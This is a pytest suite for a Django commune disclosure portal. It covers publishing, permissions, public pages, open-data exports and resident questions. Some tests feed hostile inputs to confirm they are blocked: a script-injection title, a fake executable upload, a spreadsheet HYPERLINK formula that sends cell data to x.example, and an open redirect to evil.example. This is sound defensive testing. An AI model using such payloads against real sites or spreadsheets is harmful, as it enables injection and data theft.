"""Officials' pages and the public portal, through real requests."""

from datetime import date, timedelta

import pytest
from django.urls import reverse
from django.utils import timezone

from accounts.models import Role
from accounts.units import SESSION_KEY as UNIT_KEY
from disclosures import services
from disclosures.models import CatalogueItem, Disclosure, Question, QuestionStatus, Status
from disclosures.services import DisclosureInput
from tests.factories import official, pdf_bytes, png_bytes, upload


@pytest.fixture
def clerk(tree):
    return official("clerk", Role.COMMUNE_OFFICIAL, tree.commune)


def signed_in(client, user, unit):
    client.force_login(user)
    session = client.session
    session[UNIT_KEY] = unit.pk
    session.save()
    return client


def publish(user, unit, title="Kế hoạch làm đường bê tông thôn Đông", **extra):
    today = timezone.localdate()
    values = {
        "title": title,
        "topic": "investment",
        "issued_on": today,
        "effective_from": today,
        "body": "Làm 1,2 km đường bê tông.",
    }
    values.update(extra)
    return services.publish_disclosure(by=user, unit=unit, data=DisclosureInput(**values))


def test_official_publishes_with_a_pdf_and_channels(client, tree, clerk):
    signed_in(client, clerk, tree.commune)
    today = timezone.localdate()
    response = client.post(
        reverse("disclosures:create"),
        {
            "catalogue_item": CatalogueItem.objects.get(code="budget-estimate").pk,
            "title": "Dự toán ngân sách",
            "body": "Tổng thu 12 tỷ đồng",
            "issued_on": today.isoformat(),
            "files": [upload("du-toan.pdf", pdf_bytes("Dự toán"))],
            "notice_board_on": today.isoformat(),
            "notice_board_photo": upload("bang-tin.png", png_bytes()),
            "loudspeaker_on": today.isoformat(),
        },
    )
    d = Disclosure.objects.get()
    assert response.status_code == 302 and response.url == reverse("disclosures:detail", args=[d.pk])
    assert d.topic == "budget" and d.created_by == clerk
    assert sorted(d.channels.values_list("channel", flat=True)) == ["loudspeaker", "notice_board", "portal"]
    assert d.channels.get(channel="notice_board").photo
    page = client.get(response.url)
    assert "du-toan.pdf" in page.text and "Tổng thu 12 tỷ đồng" in page.text


def test_bad_input_gets_a_message_and_changes_nothing(client, tree, clerk):
    signed_in(client, clerk, tree.commune)
    today = timezone.localdate()
    response = client.post(
        reverse("disclosures:create"),
        {
            "topic": "budget",
            "title": "Dự toán <script>alert(1)</script>",
            "issued_on": today.isoformat(),
            "effective_until": (today - timedelta(days=3)).isoformat(),
            "files": [upload("virus.exe", b"MZ\x90\x00")],
        },
    )
    assert response.status_code == 200
    assert "HTML" in response.text
    assert not Disclosure.objects.exists()
    response = client.post(
        reverse("disclosures:create"),
        {
            "topic": "budget",
            "title": "Dự toán",
            "issued_on": today.isoformat(),
            "effective_until": (today - timedelta(days=3)).isoformat(),
        },
    )
    assert response.status_code == 200 and not Disclosure.objects.exists()
    response = client.post(
        reverse("disclosures:create"),
        {
            "topic": "budget",
            "title": "Dự toán",
            "issued_on": today.isoformat(),
            "files": [upload("virus.exe", b"MZ\x90\x00")],
        },
    )
    assert response.status_code == 200 and "virus.exe" in response.text and not Disclosure.objects.exists()


def test_another_communes_official_cannot_see_or_change_it(client, tree, clerk):
    d = publish(clerk, tree.commune)
    other = official("other", Role.COMMUNE_OFFICIAL, tree.sibling)
    signed_in(client, other, tree.sibling)
    assert client.get(reverse("disclosures:detail", args=[d.pk])).status_code == 404
    assert client.post(reverse("disclosures:withdraw", args=[d.pk]), {"reason": "xoá đi cho xong"}).status_code == 404
    d.refresh_from_db()
    assert d.status == Status.PUBLISHED


def test_provincial_member_sees_but_cannot_correct(client, tree, clerk):
    d = publish(clerk, tree.commune)
    member = official("member", Role.PROVINCIAL_STEERING, tree.province)
    signed_in(client, member, tree.province)
    assert client.get(reverse("disclosures:detail", args=[d.pk])).status_code == 200
    assert client.get(reverse("disclosures:correct", args=[d.pk])).status_code == 403


def test_correction_page_keeps_old_version_visible_as_superseded(client, tree, clerk):
    d = publish(clerk, tree.commune)
    signed_in(client, clerk, tree.commune)
    response = client.post(
        reverse("disclosures:correct", args=[d.pk]),
        {
            "topic": "investment",
            "title": "Kế hoạch làm đường bê tông thôn Đông (bổ sung)",
            "issued_on": d.issued_on.isoformat(),
            "correction_note": "Bổ sung chiều dài tuyến",
        },
    )
    new = Disclosure.objects.get(status=Status.PUBLISHED)
    assert response.url == reverse("disclosures:detail", args=[new.pk])
    old_page = client.get(reverse("portal:disclosure", args=[d.pk]))
    assert "superseded" in old_page.text.lower() or "thay thế" in old_page.text
    assert reverse("portal:disclosure", args=[new.pk]) in old_page.text


def test_portal_pages_need_no_login_and_list_newest_first(client, tree, clerk):
    older = publish(clerk, tree.village, title="Thông báo họp thôn Đông")
    newer = publish(clerk, tree.commune, title="Dự toán thu chi quỹ phòng chống thiên tai")
    publish(official("x", Role.COMMUNE_OFFICIAL, tree.sibling), tree.sibling, title="Tin của xã bên")
    for unit in (tree.province, tree.commune):
        page = client.get(reverse("portal:unit", args=[unit.code]))
        assert page.status_code == 200
        assert page.text.index(newer.title) < page.text.index(older.title)
    village_page = client.get(reverse("portal:unit", args=[tree.village.code]))
    assert older.title in village_page.text and newer.title not in village_page.text
    assert "Tin của xã bên" not in client.get(reverse("portal:unit", args=[tree.commune.code])).text
    assert "public" in page["Cache-Control"] and "max-age=60" in page["Cache-Control"]


def test_portal_search_is_diacritic_insensitive(client, tree, clerk):
    d = publish(clerk, tree.commune, title="Quyết định thu hồi đất làm đường")
    page = client.get(reverse("portal:unit", args=[tree.province.code]), {"q": "thu hoi dat"})
    assert d.title in page.text
    page = client.get(reverse("portal:unit", args=[tree.province.code]), {"q": "cầu treo"})
    assert d.title not in page.text


def test_withdrawn_files_are_not_served_and_files_never_render_as_html(client, tree, clerk):
    d = publish(clerk, tree.commune, files=[upload("qd.pdf", pdf_bytes("Quyết định"))])
    attachment = d.attachments.get()
    response = client.get(reverse("portal:attachment", args=[attachment.pk]))
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"].startswith("attachment")
    assert "sandbox" in response["Content-Security-Policy"] and response["X-Content-Type-Options"] == "nosniff"
    services.withdraw_disclosure(by=clerk, disclosure=d, reason="Sai thông tin")
    assert client.get(reverse("portal:attachment", args=[attachment.pk])).status_code == 404


def test_feed_and_open_data(client, tree, clerk):
    d = publish(clerk, tree.commune)
    feed = client.get(reverse("portal:feed", args=[tree.commune.code]))
    assert feed["Content-Type"].startswith("application/atom+xml") and d.title in feed.text
    data = client.get(reverse("portal:open_data_json", args=[tree.commune.code])).json()
    assert [r["title"] for r in data["disclosures"]] == [d.title]
    assert data["disclosures"][0]["unit_code"] == tree.commune.code
    csv_text = client.get(reverse("portal:open_data_csv", args=[tree.commune.code])).content.decode("utf-8-sig")
    header, row = csv_text.splitlines()[:2]
    assert header.startswith("id,url,title") and d.title in row


def test_open_data_csv_does_not_hand_a_spreadsheet_a_formula(client, tree, clerk):
    import csv
    import io

    publish(clerk, tree.commune, title='=HYPERLINK("http://x.example/?"&A1,"Xem")', document_number="@SUM(1+1)")
    csv_text = client.get(reverse("portal:open_data_csv", args=[tree.commune.code])).content.decode("utf-8-sig")
    row = next(csv.DictReader(io.StringIO(csv_text)))
    assert row["title"] == '\'=HYPERLINK("http://x.example/?"&A1,"Xem")'
    assert row["document_number"] == "'@SUM(1+1)"


@pytest.fixture
def asking(settings):
    settings.QUESTION_MIN_SECONDS = 0
    settings.QUESTIONS_PER_HOUR = 2


def ask(client, d, **extra):
    from disclosures.forms import QuestionForm

    started = QuestionForm().initial["started"]
    values = {
        "kind": "question",
        "name": "Lò Văn Páo",
        "phone": "0912 345 678",
        "text": "Xin hỏi đường làm đến đâu?",
        "started": started,
    }
    values.update(extra)
    return client.post(reverse("portal:ask", args=[d.pk]), values)


def test_resident_question_is_answered_publicly(client, tree, clerk, asking, django_capture_on_commit_callbacks):
    d = publish(clerk, tree.commune)
    with django_capture_on_commit_callbacks(execute=True):
        response = ask(client, d)
    assert response.status_code == 302
    question = Question.objects.get()
    assert question.phone == "0912345678" and question.status == QuestionStatus.PENDING
    assert clerk.notifications.count() == 1  # the commune official is told
    public = client.get(reverse("portal:disclosure", args=[d.pk]))
    assert "Xin hỏi đường làm đến đâu?" not in public.text  # not public until answered
    signed_in(client, clerk, tree.commune)
    client.post(reverse("disclosures:question_answer", args=[question.pk]), {"answer": "Tháng 6 khởi công."})
    client.logout()
    public = client.get(reverse("portal:disclosure", args=[d.pk]))
    assert "Xin hỏi đường làm đến đâu?" in public.text and "Tháng 6 khởi công." in public.text
    assert "0912" not in public.text


def test_questions_are_rate_limited_and_robots_are_refused(client, tree, clerk, asking):
    d = publish(clerk, tree.commune)
    assert ask(client, d, text="Câu hỏi thứ nhất về con đường").status_code == 302
    assert ask(client, d, text="Câu hỏi thứ hai về con đường").status_code == 302
    third = ask(client, d, text="Câu hỏi thứ ba về con đường")
    assert third.status_code == 400 and Question.objects.count() == 2
    assert ask(client, d, website="http://spam.example", text="Mua thuốc giá rẻ ở đây").status_code == 400
    assert ask(client, d, started="forged", text="Một câu hỏi khác nữa").status_code == 400
    assert ask(client, d, text="<a href=x>click</a> quảng cáo").status_code == 400
    assert Question.objects.count() == 2


def test_behind_the_proxy_one_sender_s_questions_do_not_use_up_another_s(client, tree, clerk, asking, settings):
    settings.TRUSTED_PROXIES = ["10.0.0.1"]
    settings.QUESTIONS_PER_ADDRESS_HOUR = 2
    d = publish(clerk, tree.commune)

    def ask_from(address, text, phone):
        from disclosures.forms import QuestionForm

        values = {"kind": "question", "name": "Lò Văn Páo", "phone": phone, "text": text}
        values["started"] = QuestionForm().initial["started"]
        meta = {"REMOTE_ADDR": "10.0.0.1", "HTTP_X_FORWARDED_FOR": address}
        return client.post(reverse("portal:ask", args=[d.pk]), values, **meta)

    assert ask_from("203.0.113.7", "Câu hỏi thứ nhất về con đường", "0912000001").status_code == 302
    assert ask_from("203.0.113.7", "Câu hỏi thứ hai về con đường", "0912000002").status_code == 302
    assert ask_from("203.0.113.7", "Câu hỏi thứ ba về con đường", "0912000003").status_code == 400
    assert ask_from("198.51.100.2", "Khi nào đường làm xong ạ?", "0912000004").status_code == 302
    assert Question.objects.count() == 3


def test_residents_sharing_one_address_do_not_use_up_each_other_s_questions(client, tree, clerk, asking):
    """A commune hall's Wi-Fi: the limit of two an hour is each sender's (address and phone), not the hall's."""
    d = publish(clerk, tree.commune)
    for i in range(4):
        phone = f"091200001{i}"
        assert ask(client, d, phone=phone, text=f"Câu hỏi số {i} của hộ {i} về đường").status_code == 302
    assert ask(client, d, phone="0912000010", text="Câu hỏi thêm nữa của hộ 0").status_code == 302
    assert ask(client, d, phone="0912000010", text="Câu hỏi thứ ba của hộ 0 về đường").status_code == 400
    assert Question.objects.count() == 5


def publish_budget(user, unit, year=2025):
    """The yearly budget estimate, issued on 6 January and published the next day: on time."""
    from datetime import datetime
    from zoneinfo import ZoneInfo

    issued = date(year, 1, 6)
    return services.publish_disclosure(
        by=user,
        unit=unit,
        data=DisclosureInput(
            title=f"Dự toán ngân sách năm {year}",
            topic="budget",
            issued_on=issued,
            effective_from=issued,
            catalogue_item=CatalogueItem.objects.get(code="budget-estimate"),
        ),
        now=datetime(year, 1, 7, 9, tzinfo=ZoneInfo("Asia/Ho_Chi_Minh")),
    )


def test_compliance_shows_on_time_and_missing(client, tree, clerk):
    publish_budget(clerk, tree.commune)
    signed_in(client, clerk, tree.commune)
    page = client.get(reverse("disclosures:compliance"), {"year": 2025})
    rows = {s.item.code: s.status for s in page.context["standings"]}
    assert rows["budget-estimate"] == "on_time"
    # The socio-economic plan fell due on 31 January 2025 and was never published.
    assert rows["socio-economic-plan"] == "missing"
    assert rows["land-recovery-compensation"] == "no_event"


def test_province_rollup_and_export(client, tree, clerk):
    publish_budget(clerk, tree.commune)
    member = official("member", Role.PROVINCIAL_STEERING, tree.province)
    signed_in(client, member, tree.province)
    page = client.get(reverse("disclosures:compliance"), {"year": 2025})
    by_commune = {r.commune.code: r.counts for r in page.context["rollup"]}
    assert by_commune[tree.commune.code]["on_time"] == 1 and by_commune[tree.sibling.code]["on_time"] == 0
    yearly = CatalogueItem.objects.filter(recurrence="annual", is_active=True).count()
    assert by_commune[tree.sibling.code]["missing"] == yearly
    assert "<svg" in page.text
    export = client.get(reverse("disclosures:compliance_export"), {"year": 2025})
    import io

    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(export.content)).active
    rows = {r[0]: r for r in sheet.iter_rows(min_row=2, values_only=True)}
    assert rows[tree.commune.name][1] == 1 and rows[tree.sibling.name][1] == 0
    assert sheet._charts  # the chart travels with the figures


def test_the_rollup_follows_a_publication_at_once(client, tree, clerk):
    # Pages read the roll-up from a per-worker cache: a publication must show on the next request.
    member = official("member", Role.PROVINCIAL_STEERING, tree.province)
    signed_in(client, member, tree.province)

    def on_time():
        page = client.get(reverse("disclosures:compliance"), {"year": 2025})
        return {r.commune.code: r.counts["on_time"] for r in page.context["rollup"]}

    assert on_time()[tree.sibling.code] == 0
    publish_budget(official("clerk2", Role.COMMUNE_OFFICIAL, tree.sibling), tree.sibling)
    assert on_time()[tree.sibling.code] == 1


def test_catalogue_edit_bumps_version_and_needs_a_province_admin(client, tree):
    item = CatalogueItem.objects.get(code="budget-estimate")
    commune_admin = official("cadmin", Role.SYSTEM_ADMIN, tree.commune)
    signed_in(client, commune_admin, tree.commune)
    assert client.get(reverse("disclosures:catalogue_edit", args=[item.pk])).status_code == 403
    admin = official("padmin", Role.SYSTEM_ADMIN, tree.province)
    signed_in(client, admin, tree.province)
    response = client.post(
        reverse("disclosures:catalogue_edit", args=[item.pk]),
        {
            "title": item.title,
            "article": item.article,
            "topic": item.topic,
            "level": item.level,
            "required_channels": ["notice_board", "portal"],
            "item_number": 2,
            "min_posting_days": 45,
            "radio_min_days": 0,
            "deadline_working_days": 3,
            "recurrence": "annual",
            "due_month": 1,
            "due_day": 31,
            "is_active": "on",
            "reason": "Nghị định mới",
        },
    )
    assert response.status_code == 302
    item.refresh_from_db()
    assert item.version == 2 and item.min_posting_days == 45
    assert item.history.first().history_change_reason == "Nghị định mới"
    assert item.history.count() == 2


def test_cached_portal_page_shows_a_new_disclosure_at_once(client, tree, clerk):
    first = publish(clerk, tree.commune, title="Thông báo lịch tiếp công dân")
    url = reverse("portal:unit", args=[tree.commune.code])
    assert first.title in client.get(url).text
    second = publish(clerk, tree.commune, title="Thông báo thu phí vệ sinh môi trường")
    page = client.get(url).text
    assert second.title in page and first.title in page
    services.withdraw_disclosure(by=clerk, disclosure=first, reason="Lịch đã thay đổi")
    assert first.title not in client.get(url).text


def test_portal_language_switch_is_a_safe_link(client, tree):
    url = reverse("portal:unit", args=[tree.province.code])
    response = client.get(reverse("portal:language", args=["en"]), {"next": url})
    assert response.status_code == 302 and response.url == url
    assert "Words to find" in client.get(url).text
    evil = client.get(reverse("portal:language", args=["vi"]), {"next": "https://evil.example/"})
    assert evil.url == "/cong-khai/"
    assert "Từ cần tìm" in client.get(url).text


def test_hidden_question_stays_out_of_the_portal_with_its_reason_in_history(client, tree, clerk, asking):
    d = publish(clerk, tree.commune)
    ask(client, d, text="Mua hàng giá rẻ liên hệ ngay số này")
    question = Question.objects.get()
    signed_in(client, clerk, tree.commune)
    client.post(reverse("disclosures:question_hide", args=[question.pk]), {"reason": "Quảng cáo"})
    question.refresh_from_db()
    assert question.status == QuestionStatus.HIDDEN
    record = question.history.first()
    assert record.history_user == clerk and record.history_change_reason == "Quảng cáo"
    client.logout()
    assert "Mua hàng giá rẻ" not in client.get(reverse("portal:disclosure", args=[d.pk])).text
